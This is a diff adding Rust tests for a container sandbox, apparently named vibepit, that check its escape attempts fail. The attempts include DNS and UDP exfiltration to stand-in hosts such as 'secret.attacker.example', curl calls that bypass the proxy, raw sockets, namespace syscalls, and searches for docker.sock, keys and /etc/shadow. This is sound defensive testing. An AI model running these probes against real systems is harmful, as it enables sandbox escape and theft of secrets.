@@ -1,0 +1,607 @@
+//! What a program in the sandbox tries in order to get out, and what comes of each attempt.
+
+use std::fs;
+use std::net::{IpAddr, TcpListener, UdpSocket};
+use std::process::Command;
+
+use serde_json::{Value, json};
+
+use crate::docker::{NO_NAMES, own_addresses, reachable};
+use crate::support::{Bench, Resolver, Says, Shell, engine, require};
+
+/// Answers a list of attempts, one line each: `NAME: what came of it`.
+const PROBE: &str = r#"
+import ctypes, errno, json, os, socket, struct, sys
+
+def tried(attempt, *arguments):
+    try:
+        return attempt(*arguments)
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+
+def tcp(host, port):
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family) as connection:
+        connection.settimeout(5)
+        connection.connect((host, port))
+        return "connected"
+
+def udp(host, port):
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as connection:
+        connection.sendto(b"secret", (host, port))
+        return "sent"
+
+def named(host, port):
+    socket.getaddrinfo(host, port)
+    return "resolved"
+
+def kind(family, kind, protocol):
+    socket.socket(family, kind, protocol).close()
+    return "opened"
+
+def ask(server, port, name, over):
+    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
+    for label in name.split("."):
+        question += bytes([len(label)]) + label.encode()
+    question += struct.pack(">BHH", 0, 1, 1)
+    if over == "tcp":
+        connection = socket.create_connection((server, port), 5)
+        connection.settimeout(5)
+        connection.sendall(struct.pack(">H", len(question)) + question)
+        answer = connection.recv(4096)[2:]
+    else:
+        connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        connection.settimeout(5)
+        connection.sendto(question, (server, port))
+        answer = connection.recv(4096)
+    return "rcode %d answers %d" % (answer[3] & 15, struct.unpack(">H", answer[6:8])[0])
+
+def call(number, *arguments):
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.syscall(number, *arguments) < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return "done"
+
+def mount():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return "done"
+
+ways = dict(tcp=tcp, udp=udp, named=named, kind=kind, ask=ask, call=call, mount=mount)
+for name, way, arguments in json.load(sys.stdin):
+    print(name + ": " + tried(ways[way], *arguments))
+"#;
+
+/// Runs the probe in a sandbox.
+fn probe(
+    bench: &Bench,
+    shell: &mut Shell,
+    attempts: &[(&str, &str, Value)],
+) -> Vec<(String, String)> {
+    let attempts: Vec<_> = attempts
+        .iter()
+        .map(|(name, way, how)| json!([name, way, how]))
+        .collect();
+    fs::write(bench.project().join("probe.py"), PROBE).expect("the probe");
+    let list = json!(attempts).to_string();
+    fs::write(bench.project().join("attempts.json"), list).expect("the attempts");
+    let said = shell.ask("/usr/bin/python3 probe.py < attempts.json");
+    let outcomes: Vec<_> = said
+        .lines()
+        .map(|line| line.rsplit_once(": ").unwrap_or_else(|| panic!("{said}")))
+        .map(|(name, outcome)| (name.to_owned(), outcome.to_owned()))
+        .collect();
+    assert_eq!(outcomes.len(), attempts.len(), "{said}");
+    outcomes
+}
+
+/// Nothing came of any of these.
+#[track_caller]
+fn all(outcomes: &[(String, String)], allowed: &[&str]) {
+    for (name, outcome) in outcomes {
+        assert!(allowed.contains(&outcome.as_str()), "{name}: {outcome}");
+    }
+}
+
+/// There is no way to it.
+const NO_WAY: [&str; 2] = ["ENETUNREACH", "EHOSTUNREACH"];
+
+fn pointer<'a>(value: &'a Value, path: &str) -> &'a str {
+    value
+        .pointer(path)
+        .and_then(Value::as_str)
+        .unwrap_or_else(|| panic!("{path}: {value}"))
+}
+
+/// A container's address on the session's network.
+fn address_on(container: &Value, network: &str) -> String {
+    pointer(
+        container,
+        &format!("/NetworkSettings/Networks/{network}/IPAddress"),
+    )
+    .to_owned()
+}
+
+/// Nobody knocked at a listener of the test.
+#[track_caller]
+fn untouched(listener: &TcpListener, packets: &UdpSocket) {
+    listener.set_nonblocking(true).expect("a mode");
+    packets.set_nonblocking(true).expect("a mode");
+    assert!(listener.accept().is_err(), "somebody connected");
+    assert!(packets.recv(&mut [0; 16]).is_err(), "a packet came");
+}
+
+/// CTL-010, CTL-012, CTL-013, CTL-002, CTL-003, PIV-010, PIV-014, PIV-015, DNS-027, DNS-030,
+/// IP6-034, BOX-007.
+#[test]
+fn the_sandbox_reaches_its_proxys_two_doors_and_no_other_address() {
+    if !require("docker") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let mut shell = bench.shell(&[]);
+    let own = bench.session();
+    // Another session of the same person, whose proxy and sandbox are neighbours of nobody.
+    let mut other = bench.shell(&["--name", "other"]);
+    let sessions = bench.sessions();
+    let other_id = sessions
+        .iter()
+        .map(|one| pointer(one, "/id"))
+        .find(|id| *id != own);
+    let other_id = other_id.expect("the other session").to_owned();
+    let network = format!("vibepit-{own}");
+    let other_network = format!("vibepit-{other_id}");
+    let proxy = engine::inspect(&format!("{network}-proxy"));
+    let other_proxy = engine::inspect(&format!("{other_network}-proxy"));
+    let other_sandbox = engine::inspect(&format!("{other_network}-sandbox"));
+    let details = engine::get(&format!("/networks/{network}"));
+    let gateway = pointer(&details, "/IPAM/Config/0/Gateway").to_owned();
+
+    // BOX-007: the sandbox has a network of its own.
+    let sandbox = engine::inspect(&format!("{network}-sandbox"));
+    assert_eq!(pointer(&sandbox, "/HostConfig/NetworkMode"), network);
+    let networks = sandbox["NetworkSettings"]["Networks"]
+        .as_object()
+        .expect("networks");
+    assert_eq!(networks.keys().collect::<Vec<_>>(), [&network]);
+    assert_eq!(details["Internal"], true);
+
+    let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
+    let port = listener.local_addr().expect("its address").port();
+    let packets = UdpSocket::bind(("0.0.0.0", port)).expect("the same port");
+    let mut attempts = vec![
+        ("the gateway", "tcp", json!([gateway, port])),
+        ("the gateway, by UDP", "udp", json!([gateway, port])),
+        (
+            "CTL-010: the engine at the gateway",
+            "tcp",
+            json!([gateway, 2375]),
+        ),
+        (
+            "the bridge's side of the proxy",
+            "tcp",
+            json!([address_on(&proxy, "bridge"), 3129]),
+        ),
+        (
+            "the bridge's side of the proxy, its door",
+            "tcp",
+            json!([address_on(&proxy, "bridge"), 3128]),
+        ),
+        (
+            "CTL-013: another session's proxy",
+            "tcp",
+            json!([address_on(&other_proxy, &other_network), 3128]),
+        ),
+        (
+            "another session's proxy on the bridge",
+            "tcp",
+            json!([address_on(&other_proxy, "bridge"), 3129]),
+        ),
+        (
+            "CTL-012: another session's sandbox",
+            "tcp",
+            json!([address_on(&other_sandbox, &other_network), 22]),
+        ),
+        (
+            "PIV-014: an address outside",
+            "tcp",
+            json!(["198.51.100.7", 443]),
+        ),
+        (
+            "DNS-027: a name server outside",
+            "tcp",
+            json!(["198.51.100.7", 853]),
+        ),
+        ("PIV-015: UDP outside", "udp", json!(["198.51.100.7", 123])),
+        (
+            "DNS-027: a name server outside, by UDP",
+            "udp",
+            json!(["198.51.100.7", 53]),
+        ),
+        ("DNS-030: mDNS", "udp", json!(["224.0.0.251", 5353])),
+        ("cloud metadata", "tcp", json!(["169.254.169.254", 80])),
+    ];
+    for (_, ip) in own_addresses() {
+        if let IpAddr::V4(v4) = ip
+            && !v4.is_loopback()
+        {
+            attempts.push(("this machine", "tcp", json!([v4.to_string(), port])));
+            attempts.push(("this machine, by UDP", "udp", json!([v4.to_string(), port])));
+            attempts.push(("CTL-010: the engine", "tcp", json!([v4.to_string(), 2375])));
+        }
+    }
+    let outcomes = probe(&bench, &mut shell, &attempts);
+    // A packet to a neighbour that does not exist is taken and then dropped.
+    for (name, outcome) in &outcomes {
+        let dropped = name == "the gateway, by UDP" && outcome == "sent";
+        assert!(
+            dropped || NO_WAY.contains(&outcome.as_str()),
+            "{name}: {outcome}"
+        );
+    }
+    untouched(&listener, &packets);
+
+    let proxy_address = address_on(&proxy, &network);
+    // CTL-002, CTL-003: of the proxy's ports two answer, and the control port is not among them.
+    let ports = [3129, 9997, 9999, 1080, 80, 443, 2375, port];
+    let attempts: Vec<_> = ports
+        .map(|port| {
+            (
+                "CTL-002, CTL-003: a port of the proxy",
+                "tcp",
+                json!([proxy_address, port]),
+            )
+        })
+        .into();
+    all(&probe(&bench, &mut shell, &attempts), &["ECONNREFUSED"]);
+    let doors = [
+        ("http", "tcp", json!([proxy_address, 3128])),
+        ("dns", "tcp", json!([proxy_address, 53])),
+    ];
+    all(&probe(&bench, &mut shell, &doors), &["connected"]);
+
+    let v6 = [
+        ("IP6-034", "tcp", json!(["2001:db8::1", 443])),
+        ("all nodes", "udp", json!(["ff02::1", 5353])),
+    ];
+    let unreachable = [
+        "ENETUNREACH",
+        "EADDRNOTAVAIL",
+        "EAFNOSUPPORT",
+        "EHOSTUNREACH",
+    ];
+    all(&probe(&bench, &mut shell, &v6), &unreachable);
+    assert_eq!(
+        shell.ask("cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$'; true"),
+        ""
+    );
+    let routes = shell.ask("tail -n +2 /proc/net/route | cut -f2 | grep -c '^00000000$'; true");
+    assert_eq!(routes.trim(), "0", "no default route");
+
+    // PIV-010: to go round the proxy is to go nowhere.
+    let direct = shell.ask("curl -sS --noproxy '*' -m 20 http://198.51.100.7/; echo $?");
+    assert!(direct.ends_with("\n7\n"), "{direct}");
+    let foreign = shell.ask("curl -sS -x http://198.51.100.7:8080 -m 20 http://a.test/; echo $?");
+    assert!(foreign.ends_with("\n7\n"), "PIV-011: {foreign}");
+
+    assert_eq!(other.ask("echo still here"), "still here\n");
+    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
+    bench.is_clean();
+}
+
+/// DNS-028, and DNS-029 with the engine's own name server.
+#[test]
+fn no_name_that_is_not_allowed_leaves_by_any_name_server() {
+    if !require("docker") {
+        return;
+    }
+    let (resolver, config) = reachable("origin.test");
+    resolver.set(
+        "secret.attacker.example",
+        Says::addresses([[198, 51, 100, 7]]),
+    );
+    let bench = Bench::new(&config);
+    let mut shell = bench.shell(&["--allow", "origin.test"]);
+    let mut other = bench.shell(&["--name", "other"]);
+    let network = format!("vibepit-{}", id_of(&bench, "project"));
+    let proxy = address_on(&engine::inspect(&format!("{network}-proxy")), &network);
+    let engines = probe(
+        &bench,
+        &mut shell,
+        &[
+            (
+                "DNS-028: the engine's name server",
+                "ask",
+                json!(["127.0.0.11", 53, "secret.attacker.example", "udp"]),
+            ),
+            (
+                "DNS-028: the same over TCP",
+                "ask",
+                json!(["127.0.0.11", 53, "secret.attacker.example", "tcp"]),
+            ),
+        ],
+    );
+    for (name, outcome) in &engines {
+        assert!(!outcome.ends_with("answers 1"), "{name}: {outcome}");
+    }
+    let ours = probe(
+        &bench,
+        &mut shell,
+        &[
+            (
+                "udp",
+                "ask",
+                json!([proxy, 53, "secret.attacker.example", "udp"]),
+            ),
+            (
+                "tcp",
+                "ask",
+                json!([proxy, 53, "secret.attacker.example", "tcp"]),
+            ),
+        ],
+    );
+    all(&ours, &["rcode 3 answers 0"]);
+    let other_name = format!("vibepit-{}-proxy", id_of(&bench, "other"));
+    let names = probe(
+        &bench,
+        &mut shell,
+        &[
+            ("DNS-029", "named", json!(["secret.attacker.example", 443])),
+            ("CTL-013: by its name", "named", json!([other_name, 3128])),
+            (
+                "host.docker.internal",
+                "named",
+                json!(["host.docker.internal", 80]),
+            ),
+            ("PIV-012", "named", json!(["ping.attacker.example", 7])),
+        ],
+    );
+    all(&names, &["gaierror"]);
+    assert_eq!(asked(&resolver), [""; 0]);
+    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
+}
+
+fn asked(resolver: &Resolver) -> Vec<String> {
+    let questions = resolver
+        .questions()
+        .into_iter()
+        .map(|question| question.name);
+    questions.collect()
+}
+
+/// The id of a session by its name.
+fn id_of(bench: &Bench, name: &str) -> String {
+    let sessions = bench.sessions();
+    let found = sessions.iter().find(|one| one["name"] == name);
+    pointer(found.expect("the session"), "/id").to_owned()
+}
+
+/// BOX-011, PIV-012.
+#[test]
+fn the_sandbox_has_no_capability_no_new_privileges_and_no_raw_socket() {
+    if !require("docker") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let mut shell = bench.shell(&[]);
+    let status = shell.ask("cat /proc/self/status");
+    let field = |name: &str| {
+        let line = status
+            .lines()
+            .find(|line| line.starts_with(&format!("{name}:")));
+        line.and_then(|line| line.split_whitespace().nth(1))
+            .unwrap_or_default()
+            .to_owned()
+    };
+    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert_eq!(field(set), "0000000000000000", "BOX-011: {set}");
+    }
+    assert_eq!(
+        (field("NoNewPrivs").as_str(), field("Seccomp").as_str()),
+        ("1", "2")
+    );
+
+    let (v4, v6, packet) = (libc_family::INET, libc_family::INET6, libc_family::PACKET);
+    let (datagram, raw) = (2, 3);
+    let sockets = [
+        ("PIV-012: ICMP, raw", "kind", json!([v4, raw, 1])),
+        ("raw IP", "kind", json!([v4, raw, 255])),
+        ("raw IPv6", "kind", json!([v6, raw, 58])),
+        ("packets", "kind", json!([packet, raw, 0x0300])),
+    ];
+    all(
+        &probe(&bench, &mut shell, &sockets),
+        &["EPERM", "EACCES", "EAFNOSUPPORT"],
+    );
+    // An engine may let containers ping without a capability: there is nobody to ping.
+    let ping = probe(
+        &bench,
+        &mut shell,
+        &[("ping", "kind", json!([v4, datagram, 1]))],
+    );
+    all(&ping, &["EACCES", "opened"]);
+    // unshare(2) of a user or a network namespace (CLONE_NEWUSER, CLONE_NEWNET), mount(2).
+    let calls = [
+        ("a user namespace", "call", json!([272, 0x1000_0000])),
+        ("a network namespace", "call", json!([272, 0x4000_0000])),
+        ("mount", "mount", json!([])),
+    ];
+    all(
+        &probe(&bench, &mut shell, &calls),
+        &["EPERM", "ENOSYS", "EINVAL"],
+    );
+    assert_eq!(
+        shell.ask(
+            "for d in / /usr /etc /opt /usr/bin; do touch $d/x 2>/dev/null && echo $d; done; true"
+        ),
+        ""
+    );
+    assert_eq!(shell.end().0, Some(0));
+}
+
+/// Address families by their numbers, which the probe's language takes.
+mod libc_family {
+    pub(super) const INET: i32 = 2;
+    pub(super) const INET6: i32 = 10;
+    pub(super) const PACKET: i32 = 17;
+}
+
+/// BOX-012, UDS-002.
+#[test]
+fn the_sandbox_sees_no_socket_of_the_host_no_key_and_no_variable_that_nobody_named() {
+    if !require("docker") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let mut vibepit = bench.vibepit();
+    vibepit
+        .env("AWS_SECRET_ACCESS_KEY", "s3cret")
+        .env("SSH_AUTH_SOCK", "/tmp/agent")
+        .env("HTTPS_PROXY", "http://user:s3cret@proxy.example:8080")
+        .args(["run", "--", "sh"]);
+    let mut shell = Shell::spawn(&mut vibepit);
+    let environment = shell.ask("tr '\\0' '\\n' < /proc/$$/environ");
+    let mut names: Vec<_> = environment
+        .lines()
+        .filter_map(|line| line.split('=').next())
+        .collect();
+    names.sort_unstable();
+    let expected = [
+        "HOME",
+        "HOSTNAME",
+        "HTTPS_PROXY",
+        "HTTP_PROXY",
+        "NO_PROXY",
+        "PATH",
+        "http_proxy",
+        "https_proxy",
+        "no_proxy",
+    ];
+    assert_eq!(names, expected, "BOX-012");
+    assert!(!environment.contains("s3cret"));
+
+    let sockets = shell.ask("find / -xdev -type s 2>/dev/null; find / \\( -name proc -o -name sys \\) -prune -o -type s -print 2>/dev/null; true");
+    assert_eq!(sockets, "", "UDS-002: no socket at all");
+    let by_name = shell.ask("find / \\( -path /proc -o -path /sys \\) -prune -o \\( -name control.sock -o -name 'docker.sock' -o -name 'client-key.pem' -o -name session.json \\) -print 2>/dev/null; true");
+    assert_eq!(by_name, "");
+    let abstract_ones = shell.ask("tail -n +2 /proc/net/unix; true");
+    assert_eq!(abstract_ones, "", "not even an abstract one");
+    let mounts = shell.ask("cat /proc/self/mountinfo");
+    for hidden in [bench.runtime_dir(), bench.home.state(), bench.home.config()] {
+        let inside = hidden.join("socket").display().to_string();
+        assert!(!mounts.contains(&inside), "{mounts}");
+        let seen = shell.ask(&format!("ls -A {} 2>/dev/null; true", hidden.display()));
+        assert_eq!(seen, "", "{}", hidden.display());
+    }
+    // Neither the machine's processes nor its accounts' secrets.
+    assert_eq!(
+        shell
+            .ask("cat /proc/1/comm; ls /etc/shadow /root 2>/dev/null; true")
+            .lines()
+            .next(),
+        Some("docker-init")
+    );
+    assert_eq!(shell.ask("test -e /etc/shadow && echo there; true"), "");
+    assert_eq!(shell.end().0, Some(0));
+}
+
+/// BOX-013, TLS-006, TLS-007, TLS-009.
+#[test]
+fn the_proxys_container_shows_no_key_and_has_two_mounts() {
+    if !require("docker") || !require("root") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let shell = bench.shell(&[]);
+    let id = bench.session();
+    let proxy = engine::inspect(&format!("vibepit-{id}-proxy"));
+    let text = proxy.to_string();
+    for secret in ["PRIVATE KEY", "BEGIN", "token"] {
+        assert!(!text.contains(secret), "BOX-013, TLS-006: {secret}");
+    }
+    let pid = proxy["State"]["Pid"].as_i64().expect("a pid");
+    for file in ["environ", "cmdline"] {
+        let text = fs::read(format!("/proc/{pid}/{file}")).expect("of the proxy");
+        let text = String::from_utf8_lossy(&text).into_owned();
+        assert!(
+            !text.contains("KEY") && !text.contains("BEGIN"),
+            "TLS-007: {text}"
+        );
+    }
+    let mut mounts: Vec<_> = proxy["Mounts"]
+        .as_array()
+        .expect("mounts")
+        .iter()
+        .map(|mount| {
+            (
+                pointer(mount, "/Destination").to_owned(),
+                pointer(mount, "/Source").to_owned(),
+            )
+        })
+        .collect();
+    mounts.sort();
+    let socket = bench.runtime_dir().join(&id).join("socket");
+    let audit = bench.home.state().join(format!("vibepit/audit/{id}.jsonl"));
+    let expected = [("/audit.jsonl", audit), ("/socket", socket)]
+        .map(|(at, from)| (at.to_owned(), from.display().to_string()));
+    assert_eq!(mounts, expected);
+    let ports = proxy["NetworkSettings"]["Ports"]
+        .as_object()
+        .expect("ports");
+    for (port, bindings) in ports {
+        let bindings = bindings.as_array().expect("published");
+        assert_eq!((port.as_str(), bindings.len()), ("3129/tcp", 1), "TLS-009");
+        assert_eq!(pointer(&bindings[0], "/HostIp"), "127.0.0.1", "TLS-009");
+    }
+    assert_eq!(proxy["HostConfig"]["ReadonlyRootfs"], true);
+    assert_eq!(proxy["HostConfig"]["CapDrop"], json!(["ALL"]));
+    assert_eq!(shell.end().0, Some(0));
+}
+
+/// BOX-019, BOX-020.
+#[test]
+fn without_a_proxy_that_admits_no_command_starts() {
+    if !require("docker") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let mut happenings = engine::Happenings::of(&bench.label());
+    let mut session = bench.start(&[], &["sh", "-c", "echo runs"]);
+    let proxy = happenings.until("start", "proxy");
+    // As early as can be: whatever the proxy was about to do.
+    engine::call(
+        "POST",
+        &format!("/containers/{proxy}/kill?signal=KILL"),
+        b"",
+    );
+    let status = session.wait();
+    let (_, said) = session.end();
+    if status.code() == Some(1) {
+        assert!(said.contains("proxy"), "BOX-019, BOX-020: {said}");
+    } else {
+        // The proxy had admitted already, and then the session was a whole one.
+        assert!(said.contains("the proxy ended"), "{status}: {said}");
+    }
+    bench.is_clean();
+}
+
+/// IPv6 forwarding and the like would be the host's to set; what the proxy's container is told is
+/// looked at where it matters: it does not forward.
+#[test]
+fn the_proxys_container_does_not_route() {
+    if !require("docker") || !require("root") || !require("nsenter") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let shell = bench.shell(&[]);
+    let proxy = engine::inspect(&format!("vibepit-{}-proxy", bench.session()));
+    let pid = proxy["State"]["Pid"].as_i64().expect("a pid").to_string();
+    let read = Command::new("nsenter")
+        .args(["-t", &pid, "-n", "cat", "/proc/sys/net/ipv4/ip_forward"])
+        .output()
+        .expect("nsenter runs");
+    assert_eq!(String::from_utf8_lossy(&read.stdout), "0\n");
+    assert_eq!(shell.end().0, Some(0));
+}
